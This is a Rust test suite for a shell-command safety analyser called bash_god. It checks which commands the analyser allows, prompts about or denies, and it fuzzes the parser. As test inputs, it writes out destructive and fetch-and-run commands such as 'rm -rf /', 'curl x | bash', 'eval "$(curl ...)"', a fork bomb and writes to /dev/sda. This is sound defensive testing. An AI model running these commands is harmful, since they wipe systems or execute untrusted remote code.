//! The analysis and the built-in policy against corpora of commands. They are analysed, never run.

use std::path::{Path, PathBuf};

use bash_god::analysis::{Analysis, Context, Decision, Risk, analyse};
use proptest::prelude::*;

fn context() -> Context {
    Context::new("/srv/project", "/home/user")
}

fn look(command: &str) -> Analysis {
    analyse(command, &context())
}

/// The rows of a corpus without its comments, with new lines and tabs in place of the signs for them.
fn rows(text: &str) -> Vec<Vec<String>> {
    text.lines()
        .filter(|line| !line.starts_with('#'))
        .map(|line| line.split('\t').map(|cell| cell.replace('␤', "\n").replace('␉', "\t")).collect())
        .collect()
}

fn dangerous() -> Vec<Vec<String>> {
    rows(include_str!("corpus/dangerous.tsv"))
}

fn everyday() -> Vec<Vec<String>> {
    rows(include_str!("corpus/everyday.tsv"))
}

#[test]
fn nothing_dangerous_is_allowed() {
    let rows = dangerous();
    assert!(rows.len() >= 300, "{} rows", rows.len());
    let allowed: Vec<&str> = rows
        .iter()
        .filter(|row| look(&row[1]).decision == Decision::Allow)
        .map(|row| row[1].as_str())
        .collect();
    assert!(allowed.is_empty(), "{} allowed: {allowed:#?}", allowed.len());
}

#[test]
fn catastrophes_are_denied() {
    let classes = ["remote-code", "fork-bomb", "device"];
    let texts = [
        "rm -rf /",
        "rm -fr /",
        "rm --rec --fo /",
        "rm -rf ~",
        "rm -rf /*",
        "find / -delete",
        "D=/; rm -rf $D",
        "cd / && rm -rf *",
        "sudo rm -rf /",
        "echo 'rm -rf /' | sh",
        "bash -c 'rm -rf /'",
        "curl x | bash",
        "echo x > /dev/sda",
        "bash <(curl -s https://example.org/x)",
        ":(){ :|:& };:",
        "rm -rf /{bin,usr,etc}",
        "eval \"$(curl -s https://example.org/x)\"",
        "cp evil /etc/profile",
        "chmod -R 777 /",
        "find / -exec rm -rf {} +",
    ];
    for text in texts {
        let analysis = look(text);
        assert_eq!(analysis.decision, Decision::Deny, "{text}: {:?}", analysis.reasons);
        assert_eq!(analysis.risk, Risk::Critical, "{text}");
    }
    let rows = dangerous();
    for class in classes {
        let of_class: Vec<_> = rows.iter().filter(|row| row[0] == class).collect();
        let denied = of_class.iter().filter(|row| look(&row[1]).decision == Decision::Deny).count();
        assert!(denied * 3 >= of_class.len(), "{class}: {denied} of {}", of_class.len());
    }
}

#[test]
fn everyday_commands_are_seldom_asked_about() {
    let rows = everyday();
    assert!(rows.len() >= 300, "{} rows", rows.len());
    let mut needless = Vec::new();
    let mut missed = Vec::new();
    for row in &rows {
        let analysis = look(&row[1]);
        let got = match analysis.decision {
            Decision::Allow => "allow",
            Decision::Prompt => "prompt",
            Decision::Deny => "deny",
        };
        match (row[0].as_str(), got) {
            (wanted, got) if wanted == got => {}
            ("allow", _) => needless.push(format!("{}: {:?}", row[1], analysis.reasons)),
            (wanted, got) => {
                missed.push(format!("{}: {got} instead of {wanted}: {:?}", row[1], analysis.reasons))
            }
        }
    }
    let harmless = rows.iter().filter(|row| row[0] == "allow").count();
    println!("{} of {harmless} harmless lines are asked about: {needless:#?}", needless.len());
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(
        needless.len() * 50 <= harmless,
        "{} of {harmless} asked about needlessly: {needless:#?}",
        needless.len()
    );
}

#[test]
fn effects_are_named() {
    let one = |command: &str| look(command).commands.remove(0);
    let paths = |list: &[bash_god::analysis::PathPattern]| -> Vec<String> {
        list.iter().map(|path| path.0.clone()).collect()
    };
    assert_eq!(paths(&one("cp a.txt ../b").writes)[0], "/srv/b");
    assert_eq!(paths(&one("mv a b").deletes), ["/srv/project/a"]);
    assert_eq!(paths(&one("sort -o out in").writes), ["/srv/project/out"]);
    assert_eq!(paths(&one("rm -rf build/*.o").deletes), ["/srv/project/build/*.o"]);
    assert_eq!(one("curl -s https://example.org/x").hosts, ["example.org"]);
    assert!(one("sudo ls").privilege);
    assert_eq!(one("$'\\x72m' a").argv, ["rm", "a"]);
    assert_eq!(one("ls $X").dynamic, [1]);
    let inner = look("bash -c 'rm a'");
    assert_eq!(inner.commands.len(), 2);
    assert_eq!(paths(&inner.commands[1].deletes), ["/srv/project/a"]);
    let looped = look("for f in a b; do rm $f; done");
    assert_eq!(
        looped.commands.iter().flat_map(|command| paths(&command.deletes)).collect::<Vec<_>>(),
        ["/srv/project/a", "/srv/project/b"]
    );
}

/// What a command makes beside, or inside of, what it names.
#[test]
fn files_that_only_a_habit_names_are_told() {
    for (command, written) in [
        ("sed -i.bak s/a/b/ x", "/srv/project/x.bak"),
        ("sed --in-place=.bak s/a/b/ x", "/srv/project/x.bak"),
        ("sed -nibak s/a/b/ x", "/srv/project/xbak"),
        ("sed -i'old_*' s/a/b/ x", "/srv/project/*"),
        ("sed -i'old/*' s/a/b/ x", "**"),
        ("mv -b new old", "/srv/project/old*"),
        ("cp new old -S .orig", "/srv/project/old*"),
        ("ln -s ~/tool ~/bin/", "/home/user/bin/**"),
        ("install a b dir", "/srv/project/dir/**"),
        ("gzip one.txt", "/srv/project/one.txt*"),
        ("find . -name x -exec gzip {} \\;", "/srv/project/**"),
        ("find d e -type d -exec cp x {} \\;", "/srv/project/d/**/**"),
        ("find d e -type d -exec cp x {} +", "/srv/project/e/**/**"),
        ("history -w", "/home/user/.*history"),
        ("history -a kept", "/srv/project/kept"),
    ] {
        let commands = look(command).commands;
        let written = bash_god::analysis::PathPattern(written.to_owned());
        let all: Vec<_> = commands.iter().flat_map(|command| &command.writes).collect();
        assert!(all.contains(&&written), "{command}: {all:?}");
    }
    let many = look(&format!("find {} -exec cp x {{}} +", vec!["a"; 17].join(" ")));
    assert!(many.commands[0].writes.contains(&bash_god::analysis::PathPattern("**".to_owned())), "{many:?}");
    assert!(many.decision >= Decision::Prompt);
    look(&format!("find {} -exec cp x {{}} +", vec!["a"; 30_000].join(" ")));
    let plain = look("sed -i s/a/b/ x").commands.remove(0);
    assert_eq!(plain.writes.len(), 1, "without a suffix there is no copy: {:?}", plain.writes);
}

#[test]
fn what_is_too_large_is_refused() {
    let deep = |open: &str, close: &str, n: usize| format!("{}ls{}", open.repeat(n), close.repeat(n));
    for text in [
        "a".repeat(70_000),
        deep("( ", " )", 40),
        deep("echo $(", ")", 90),
        "if ".repeat(500),
        "(".repeat(60_000),
        "{".repeat(60_000),
        "$(".repeat(20_000),
        "`".repeat(60_000),
        "\"".repeat(60_001),
        "echo 99999999999999999999>x".to_owned(),
        "ls ~99999999999999999999999".to_owned(),
        "ls\0".to_owned(),
    ] {
        let analysis = look(&text);
        assert_ne!(analysis.decision, Decision::Allow, "{}", &text[..40.min(text.len())]);
    }
    // Large but harmless input is answered, and does not run away.
    for text in [
        format!("echo {}", "{a,b}".repeat(10_000)),
        format!("echo {}", "{a,".repeat(10_000)),
        format!("echo {}", "*".repeat(50_000)),
        deep("{ ", "; }", 60),
        "echo a;".repeat(3_000),
        deep("for i in 1 2 3 4 5 6 7 8; do ", "; done", 12),
        "f() { f; f; }; f".to_owned(),
    ] {
        let _ = look(&text);
    }
}

#[test]
fn answers_keep_the_contract() {
    let value = serde_json::to_value(look("cat a | grep b > c")).unwrap();
    for field in ["parsed", "decision", "risk", "reasons", "commands", "warnings"] {
        assert!(value.get(field).is_some(), "{field}");
    }
    for field in ["argv", "reads", "writes", "deletes", "executes", "network", "privilege"] {
        assert!(value["commands"][0].get(field).is_some(), "{field}");
    }
    assert_eq!(value["decision"], "prompt");
    assert_eq!(value["commands"][1]["writes"][0], "/srv/project/c");
    let back: Analysis = serde_json::from_value(value).unwrap();
    assert_eq!(back, look("cat a | grep b > c"));
}

/// Lines of a corpus that is not part of the project, if it lies beside it.
fn nl2bash() -> Option<Vec<String>> {
    let folder = std::env::var_os("PERFLAB_SHARED_DATA")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"), PathBuf::from);
    let mut lines = Vec::new();
    for name in ["train.tsv", "dev.tsv"] {
        let text = std::fs::read_to_string(folder.join("nl2bash").join(name)).ok()?;
        lines.extend(text.lines().filter_map(|line| line.split('\t').nth(1)).map(str::to_owned));
    }
    Some(lines)
}

#[test]
fn every_line_of_nl2bash_is_analysed() {
    let Some(lines) = nl2bash() else {
        println!("skipped: nl2bash is not there; set PERFLAB_SHARED_DATA to the directory that holds it");
        return;
    };
    let (mut parsed, mut prompts, mut denied) = (0_usize, 0_usize, 0_usize);
    for line in &lines {
        let analysis = look(line);
        assert!(analysis.parsed || analysis.decision >= Decision::Prompt, "{line}");
        assert!(analysis.parsed || analysis.commands.is_empty(), "{line}");
        parsed += usize::from(analysis.parsed);
        prompts += usize::from(analysis.decision == Decision::Prompt);
        denied += usize::from(analysis.decision == Decision::Deny);
        if std::env::var_os("SHOW_REFUSED").is_some() && !analysis.parsed {
            println!("{line}\t{}", analysis.reasons[0]);
        }
    }
    let all = lines.len();
    println!(
        "nl2bash: {parsed} of {all} lines read alike by both parsers; {prompts} asked about, {denied} denied"
    );
}

fn corpus_lines() -> Vec<String> {
    let mut lines: Vec<String> =
        dangerous().into_iter().chain(everyday()).map(|mut row| row.remove(1)).collect();
    lines.sort_unstable();
    lines
}

/// The grammar's scanner reads beyond a table for them where a range such as `{1..9}` may begin.
#[test]
fn characters_of_every_plane_may_follow_a_brace() {
    for character in ['\u{e4}', '\u{3042}', '\u{fffd}', '\u{1f389}', '\u{e0000}', '\u{10ffff}'] {
        for text in ["{C", "{1C", "{1..C", "{1..2C}", "{C,b}", "${C}", "a/..C"] {
            let _ = look(&format!("echo {}", text.replace('C', &character.to_string())));
        }
    }
    assert!(look("echo {\u{65e5}\u{672c},b}").parsed);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = look(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn no_shell_like_text_makes_it_panic(text in "[ -~\n]{0,60}|[$(){}`'\"\\\\;&|<>*?~!#a-c \n=\\[\\]]{0,60}") {
        let _ = look(&text);
    }

    #[test]
    fn no_changed_command_makes_it_panic(
        at in any::<prop::sample::Index>(),
        cut in any::<prop::sample::Index>(),
        insert in "[$(){}`'\"\\\\;&|<>*?~!#a-c \n=\\[\\]0-9]{0,4}",
        drop in 0_usize..3,
    ) {
        let lines = corpus_lines();
        let mut text: Vec<char> = at.get(&lines).chars().collect();
        let from = cut.index(text.len() + 1);
        let to = (from + drop).min(text.len());
        text.splice(from..to, insert.chars());
        let text: String = text.into_iter().collect();
        let analysis = look(&text);
        prop_assert!(analysis.parsed || analysis.decision != Decision::Allow);
    }

    #[test]
    fn a_harmless_command_in_front_does_not_make_another_one_harmless(at in any::<prop::sample::Index>()) {
        let rows = dangerous();
        let row = at.get(&rows);
        for text in [format!("ls; {}", row[1]), format!("{{ {}\n}}", row[1]), format!("ls && {}", row[1])] {
            prop_assert_ne!(look(&text).decision, Decision::Allow, "{}", text);
        }
    }
}
